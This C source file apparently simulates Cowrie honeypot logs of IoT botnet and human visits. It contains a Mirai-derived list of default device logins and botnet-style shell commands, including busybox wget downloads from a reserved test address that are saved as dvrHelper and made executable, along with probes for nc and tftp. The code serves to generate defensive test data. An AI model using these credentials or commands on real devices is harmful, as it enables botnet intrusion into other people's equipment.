// SPDX-License-Identifier: MIT
// What bots type is as it was published of them, without what would do harm: what is fetched does not exist, and
// comes from TEST-NET-1.
#include "simulate/visit.h"

#include "base/text.h"
#include "simulate/simulate.h"

#include <string.h>

enum { COMMAND_SIZE = 320, MINUTE_US = 60 * 1000000 };

const char *const visit_stage_names[] = { "connect", "login", "shell", "token", "download" };
const char *const visit_role_names[] = { "unknown", "scanner", "loader", "both", "human" };

// Of the list that Mirai's source has.
static const struct {
	const char *user, *password;
} accounts[] = {
	{ "root", "xc3511" },   { "root", "vizxv" },     { "admin", "admin" },
	{ "root", "888888" },   { "root", "xmhdipc" },   { "root", "default" },
	{ "root", "juantech" }, { "root", "123456" },    { "support", "support" },
	{ "root", "" },         { "admin", "password" }, { "user", "user" },
};
enum { ACCOUNTS = sizeof accounts / sizeof *accounts };

struct play {
	struct visit *visit;
	const struct scenario *scenario;
	const struct variant *variant;
	struct random *random;
	struct cowrie_log *log;
	uint64_t now_us;
	bool is_cut;  // the honeypot went silent
};

bool sensor_is_silent(const struct sensor *sensor, uint64_t time_us)
{
	const int64_t minute = (int64_t)(time_us / MINUTE_US);
	for (size_t i = 0; i < sensor->gap_count; i++)
		if (minute >= sensor->gaps[i].from && minute < sensor->gaps[i].to)
			return true;
	return false;
}

static void wait_ms(struct play *p, uint32_t from, uint32_t to)
{
	const uint64_t us = (uint64_t)from * 1000 + random_below(p->random, (to - from) * 1000);
	p->now_us += us;
}

// True if it is in the log.
static bool tell(struct play *p, const struct cowrie_event *event)
{
	p->is_cut |= sensor_is_silent(&p->scenario->sensors[p->visit->sensor], p->now_us);
	if (p->is_cut)
		return false;
	cowrie_tell(p->log, p->visit, p->now_us, event);
	p->visit->end_us = p->now_us;
	return true;
}

static void tell_plain(struct play *p, const char *id, const char *message)
{
	const struct cowrie_event event = { .id = id, .message = message };
	tell(p, &event);
}

static void try_password(struct play *p, unsigned account, bool is_right)
{
	char message[96];
	const char *user = accounts[account % ACCOUNTS].user;
	const char *password = accounts[account % ACCOUNTS].password;
	text_format(message, sizeof message, "login attempt [%s/%s] %s", user, password,
	            is_right ? "succeeded" : "failed");
	const struct cowrie_event event = {
		.id = is_right ? "login.success" : "login.failed",
		.message = message,
		.fields = { { "username", user, false }, { "password", password, false } },
		.field_count = 2,
	};
	wait_ms(p, 300, 1500);
	if (!tell(p, &event))
		return;
	if (is_right)
		p->visit->logged_logins++;
	else
		p->visit->logged_failed++;
}

static bool tell_command(struct play *p, const char *id, const char *says, const char *command)
{
	char message[COMMAND_SIZE + 32];
	text_format(message, sizeof message, "%s: %s", says, command);
	const struct cowrie_event event = { .id = id,
		                            .message = message,
		                            .fields = { { "input", command, false } },
		                            .field_count = 1 };
	return tell(p, &event);
}

static void type(struct play *p, const char *command)
{
	if (p->variant->acts == ACTS_HUMAN)
		wait_ms(p, 1500, 20000);
	else
		wait_ms(p, 80, 600);
	p->visit->logged_commands += tell_command(p, "command.input", "CMD", command);
}

// A command of the variant's own: "%s" stands for the token.
static void type_token(struct play *p, const char *format_before, bool is_load)
{
	char command[COMMAND_SIZE], busybox[48];
	text_format(busybox, sizeof busybox, "/bin/busybox %s", p->visit->token);
	text_format(command, sizeof command, "%s%s", format_before, busybox);
	const unsigned before = p->visit->logged_commands;
	type(p, command);
	if (p->visit->logged_commands == before)
		return;
	p->visit->token_is_logged = true;
	p->visit->load_is_logged |= is_load;
	if (!p->log->is_old)
		return;
	p->now_us += 9000;
	tell_command(p, "command.success", "Command found", busybox);
	p->now_us -= 9000;
}

static void type_unknown(struct play *p, const char *command)
{
	type(p, command);
	p->now_us += 900;
	tell_command(p, "command.failed", "Command not found", command);
}

static void fetch(struct play *p, const char *name)
{
	// SHA-256 of nothing: there is no file.
	static const char digest[] =
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
	char url[96], command[COMMAND_SIZE], message[256];
	text_format(url, sizeof url, "http://192.0.2.%u/bins/%s.x86",
	            10 + (unsigned)p->visit->variant, name);
	text_format(command, sizeof command,
	            "/bin/busybox wget %s -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ",
	            url);
	if (p->visit->token[0] != '\0') {
		type_token(p, command, true);
	} else {
		text_format(command, sizeof command, "wget %s", url);
		type(p, command);
	}
	text_format(message, sizeof message,
	            "Downloaded URL (%s) with SHA-256 %s to var/lib/cowrie/downloads/%s", url,
	            digest, digest);
	const struct cowrie_event event = {
		.id = "session.file_download",
		.message = message,
		.fields = { { "url", url, false },
		            { "outfile", "var/lib/cowrie/downloads/empty", false },
		            { "shasum", digest, false } },
		.field_count = 3,
	};
	wait_ms(p, 300, 4000);
	p->visit->logged_fetches += tell(p, &event);
}

// ---- who does what

static void open_shell(struct play *p)
{
	type(p, "enable");
	type_unknown(p, "system");
	type_unknown(p, "shell");
	type(p, "sh");
}

static void load(struct play *p)
{
	type_token(p, "/bin/busybox ps; ", true);
	type_token(p, "/bin/busybox cat /proc/mounts; ", true);
	type_token(p, "/bin/busybox cat /bin/echo; ", true);
	type_token(p, "/bin/busybox wget; /bin/busybox tftp; ", true);
	if (p->visit->fetches)
		fetch(p, p->variant->name);
}

static void act_as_hajime(struct play *p)
{
	open_shell(p);
	type_token(p, "cat /proc/mounts; ", true);
	type_token(p, "cd /dev/shm; (cat .s || cp /bin/echo .s); ", true);
	type_token(p, "nc; wget; ", true);
	type_token(p, "(dd bs=52 count=1 if=.s || cat .s); ", true);
	if (p->visit->fetches)
		fetch(p, "i");
}

static void act_as_human(struct play *p)
{
	static const char *const commands[] = { "uname -a", "w",       "cat /proc/cpuinfo",
		                                "ls -la",   "cd /tmp", "free -m",
		                                "history" };
	const unsigned count = 3 + random_below(p->random, 12);
	for (unsigned i = 0; i < count; i++)
		type(p, commands[random_below(p->random, 7)]);
	if (p->visit->fetches)
		fetch(p, "tool");
	type(p, "exit");
}

static void act(struct play *p)
{
	const struct cowrie_event params = { .id = "session.params",
		                             .message = NULL,
		                             .fields = { { "arch", "linux-x64-lsb", false } },
		                             .field_count = 1 };
	p->now_us += 30000;
	tell(p, &params);
	if (p->visit->is_loader) {
		open_shell(p);
		// Where loaders have no token of their own it is a mark behind their commands alone.
		if (p->variant->loader_token[0] != '\0')
			type_token(p, "", true);
		load(p);
		return;
	}
	switch ((enum acts)p->variant->acts) {
	case ACTS_SCANS:
	case ACTS_LOADS:
		open_shell(p);
		type_token(p, "", false);
		if (p->variant->acts == ACTS_LOADS)
			load(p);
		break;
	case ACTS_HAJIME: act_as_hajime(p); break;
	case ACTS_HUMAN: act_as_human(p); break;
	case ACTS_GUESSES: break;
	}
}

static void connect(struct play *p)
{
	char message[160], source[TEXT_IPV4_SIZE], address[TEXT_IPV4_SIZE];
	text_from_ipv4(p->visit->source, source);
	text_from_ipv4(p->scenario->sensors[p->visit->sensor].address, address);
	text_format(message, sizeof message, "New connection: %s:%u (%s:%u) [session: %012llx]",
	            source, (unsigned)p->visit->source_port, address,
	            (unsigned)cowrie_port(p->visit), (unsigned long long)p->visit->session);
	tell_plain(p, "session.connect", message);
	if (p->visit->protocol != VISIT_SSH)
		return;
	const char *version = p->variant->acts == ACTS_HUMAN ? "SSH-2.0-OpenSSH_7.4"
	                                                     : "SSH-2.0-libssh2_1.4.3";
	const struct cowrie_event event = { .id = "client.version",
		                            .message = version,
		                            .fields = { { "version", version, false } },
		                            .field_count = 1 };
	wait_ms(p, 20, 200);
	tell(p, &event);
}

// Many bots never say good-bye, and the honeypot hangs up after two or three minutes.
static void close_session(struct play *p)
{
	char number[32], message[64];
	if (random_below(p->random, 3) == 0)
		wait_ms(p, 120000, 181000);
	else
		wait_ms(p, 100, 3000);
	const uint64_t ms = (p->now_us - p->visit->time_us) / 1000;
	if (p->log->is_old)
		text_format(number, sizeof number, "%llu.%03llu", (unsigned long long)(ms / 1000),
		            (unsigned long long)(ms % 1000));
	else
		text_format(number, sizeof number, "%llu", (unsigned long long)ms);
	text_format(message, sizeof message, "Connection lost after %llu seconds",
	            (unsigned long long)(ms / 1000));
	const struct cowrie_event event = {
		.id = "session.closed",
		.message = message,
		.fields = { { p->log->is_old ? "duration" : "duration_ms", number, true } },
		.field_count = 1,
	};
	tell(p, &event);
}

void visit_play(struct visit *visit, const struct scenario *scenario, struct random *random,
                struct cowrie_log *log)
{
	struct play p = { .visit = visit,
		          .scenario = scenario,
		          .variant = &scenario->variants[visit->variant],
		          .random = random,
		          .log = log,
		          .now_us = visit->time_us };
	connect(&p);
	for (unsigned i = 0; i < visit->failed; i++)
		try_password(&p, visit->account + 1 + i, false);
	if (visit->is_accepted) {
		try_password(&p, visit->account, true);
		act(&p);
	}
	close_session(&p);
}

enum visit_stage visit_stage_of(const struct visit *v)
{
	return v->logged_fetches > 0    ? VISIT_DOWNLOAD
	       : v->token_is_logged     ? VISIT_TOKEN
	       : v->logged_commands > 0 ? VISIT_SHELL
	       : v->logged_logins > 0   ? VISIT_LOGIN
	                                : VISIT_CONNECT;
}

enum visit_role visit_role_of(const struct visit *v, const struct variant *variant)
{
	if (variant->acts == ACTS_HUMAN)
		return v->logged_commands > 0 ? VISIT_PERSON : VISIT_UNKNOWN;
	if (v->load_is_logged)
		return v->is_loader ? VISIT_LOADER : VISIT_BOTH;
	return v->token_is_logged ? VISIT_SCANNER : VISIT_UNKNOWN;
}
